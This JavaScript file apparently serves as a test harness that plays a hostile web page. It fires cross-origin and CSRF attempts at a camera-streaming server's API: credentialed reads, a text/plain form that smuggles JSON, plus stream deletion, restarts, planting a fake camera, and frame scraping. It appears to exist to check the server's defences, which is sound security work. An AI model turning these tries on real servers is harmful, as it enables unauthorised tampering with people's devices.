// What a page of somebody else's tries on a server that its visitor can reach: `attack(target, stream)` gives,
// by name, what it could find out. Each try ends by itself, whatever the browser and the server do about it.

const PATIENCE_MS = 3000;
const NOTHING = null;

/** The first that comes of these events of `thing`: `good` reads, `bad` is a refusal. */
function first(thing, good, bad, read) {
  return new Promise((resolve) => {
    setTimeout(() => resolve(NOTHING), PATIENCE_MS);
    thing.addEventListener(good, (event) => resolve(read(event)), { once: true });
    thing.addEventListener(bad, () => resolve(NOTHING), { once: true });
  });
}

function element(name, properties) {
  const made = document.createElement(name);
  Object.assign(made, properties);
  document.body.append(made);
  return made;
}

/** What a frame or a window of the target gives away, once it had time to load. */
function looked(page) {
  try {
    return page.document.documentElement.outerHTML;
  } catch {
    return NOTHING;
  }
}

/** Sends a form into a frame; nothing of the answer can be read, but it would have been done. */
async function form(action, encoding, fields) {
  const frame = element("iframe", { name: `frame-${Math.random()}` });
  const sent = element("form", { action, method: "POST", enctype: encoding, target: frame.name });
  for (const [name, value] of fields) {
    sent.append(Object.assign(document.createElement("input"), { name, value }));
  }
  const loaded = first(frame, "load", "error", () => looked(frame.contentWindow));
  sent.submit();
  return await loaded;
}

function tries(target, stream) {
  const api = `${target}/api/v1/streams`;
  const door = `${api}/${stream}`;
  const camera = JSON.stringify({ id: "planted", source: { type: "rtsp", url: "rtsp://127.0.0.1:9/planted" } });
  const json = { "Content-Type": "application/json" };
  const cookies = { credentials: "include" };
  const text = async (url, options) => await (await fetch(url, { ...cookies, ...options })).text();
  // A form of type text/plain can hold JSON, but for its "=".
  const [before, after] = [`${camera.slice(0, -1)},"x":"`, `"}`];
  return {
    "read": () => text(api),
    "read without CORS": () => text(api, { mode: "no-cors" }),
    "read with the token's header": () => text(api, { headers: { Authorization: "Bearer guessed" } }),
    "add": () => text(api, { method: "POST", headers: json, body: camera }),
    "add as plain text": () => text(api, { method: "POST", mode: "no-cors", body: camera }),
    "add as a blob": () =>
      text(api, { method: "POST", mode: "no-cors", body: new Blob([camera], { type: "application/json" }) }),
    "change": () => text(door, { method: "PATCH", headers: json, body: '{"listed": false}' }),
    "remove": () => text(door, { method: "DELETE" }),
    "restart": () => text(`${door}/restart`, { method: "POST", mode: "no-cors" }),
    "publish": () => text(`${target}/whip`, { method: "POST", mode: "no-cors", body: "v=0" }),
    "beacon": async () => void navigator.sendBeacon(api, camera),
    "form": () => form(api, "application/x-www-form-urlencoded", [["id", "planted"]]),
    "form in parts": () => form(`${target}/api/v1/images`, "multipart/form-data", [["image", "x"]]),
    "form of plain text": () => form(api, "text/plain", [[before, after]]),
    "form to restart": () => form(`${door}/restart`, "text/plain", []),
    "WebSocket": () => {
      const socket = new WebSocket(`${door.replace("http", "ws")}/landmarks`);
      return first(socket, "open", "error", () => "opened");
    },
    "events": () => {
      const source = new EventSource(`${door}/landmarks`, { withCredentials: true });
      return first(source, "message", "error", (event) => event.data);
    },
    "snapshot": () =>
      first(element("img", { src: `${door}/snapshot.jpg` }), "load", "error", (event) => event.target.naturalWidth),
    "MJPEG": () =>
      first(element("img", { src: `${door}/mjpeg` }), "load", "error", (event) => event.target.naturalWidth),
    "script": () => first(element("script", { src: `${target}/static/wall.js` }), "load", "error", () => "ran"),
    "stylesheet": () =>
      first(element("link", { rel: "stylesheet", href: `${target}/static/style.css` }), "load", "error", () => "read"),
    "frame": () => {
      const frame = element("iframe", { src: `${target}/` });
      return first(frame, "load", "error", () => looked(frame.contentWindow));
    },
    "window": async () => {
      const opened = window.open(`${target}/docs`);
      const end = performance.now() + PATIENCE_MS;
      // At first there is an empty page of ours in it.
      while (opened !== null && !opened.closed && performance.now() < end) {
        if (looked(opened) === NOTHING) return NOTHING;
        if (opened.document.URL !== "about:blank") return looked(opened);
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      return NOTHING;
    },
  };
}

window.attack = async (target, stream) => {
  const found = {};
  const one = async ([name, attempt]) => {
    try {
      found[name] = (await attempt()) || NOTHING;
    } catch {
      found[name] = NOTHING;
    }
  };
  await Promise.all(Object.entries(tries(target, stream)).map(one));
  return found;
};
